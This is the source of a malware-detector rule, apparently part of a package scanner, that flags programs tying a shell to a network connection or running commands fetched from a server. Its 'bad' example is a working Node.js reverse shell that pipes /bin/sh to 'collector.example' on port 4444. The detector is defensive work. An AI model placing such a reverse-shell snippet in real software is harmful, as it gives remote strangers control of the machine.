import type { BundleDetector, BundlePlace, ScannedBundle } from '../../detector.ts';
import { hostsOf, isLocalHost } from '../../helpers/sending/destinations.ts';
import type { Effect } from '../../programs/effect.ts';

export const opensShell: BundleDetector = {
  id: 'opens-shell',
  severity: 'critical',
  consequence: 'quarantine',
  isTaught: true,
  summary: 'A program lets somebody at the other end of a connection run commands.',
  explanation:
    'A shell whose input and output are tied to a connection, and programs that run what comes in by a connection or ' +
    'by repeated requests and send back what it printed. That hands the machine to whoever answers. Clients that show ' +
    'what comes in are left out, and so is what listens on this machine alone.',
  examples: {
    bad: {
      path: 'agent.js',
      text: [
        'const { spawn } = require("child_process");',
        'const client = require("net").connect(4444, "collector.example", () => {',
        '  const shell = spawn("/bin/sh", []);',
        '  client.pipe(shell.stdin);',
        '  shell.stdout.pipe(client);',
        '});',
        '',
      ].join('\n'),
    },
    good: {
      path: 'agent.js',
      text: 'const client = require("net").connect(4444, "chat.example");\nclient.pipe(process.stdout);\n',
    },
  },
  inspectBundle: shells,
};

function* shells({ effects: { effects } }: ScannedBundle): Generator<BundlePlace> {
  for (const effect of effects) {
    if (effect.does !== 'execute') continue;
    const message = handsOver(effect, effects);
    if (message) yield { ...effect.at, message };
  }
}

/** What documentation writes for a host. */
const placeholder = /(?:^|\/)(?:[A-Z][A-Z_]{1,30}|<[^<>]{1,40}>|\{[^{}]{1,40}\}|x\.x\.x\.x)(?:[:/]|$)/;

function handsOver({ code, how, at }: Effect & { does: 'execute' }, all: readonly Effect[]): string | undefined {
  const from = code.sources.filter(({ origin, name }) => origin === 'connection' && !placeholder.test(name));
  const hosts = from.flatMap(({ name }) => hostsOf({ ...code, texts: [name] }));
  const isAway = from.length > 0 && !(hosts.length > 0 && hosts.every(isLocalHost));
  if (how === 'connection') return isAway ? 'A shell is tied to a connection.' : undefined;
  if (!/^(?:shell|pipe|exec|eval)$/.test(how) || code.texts.length > 0) return undefined;
  if (isAway) return 'The program runs what comes in by a connection.';
  // Commands by requests: what they print goes back to the same host.
  const asked = code.sources
    .filter(({ origin }) => origin === 'download')
    .flatMap(({ name }) => hostsOf({ ...code, texts: [name] }));
  const isAnswered = all.some(
    (other) =>
      other.does === 'send' &&
      other.at.path === at.path &&
      other.what.sources.some(
        ({ origin, name, at: place }) => origin === 'output' && name === '' && place.line === at.line,
      ) &&
      hostsOf(other.to).some((host) => asked.includes(host) && !isLocalHost(host)),
  );
  return isAnswered ? 'The program runs commands that a server gives it, and sends back what they print.' : undefined;
}
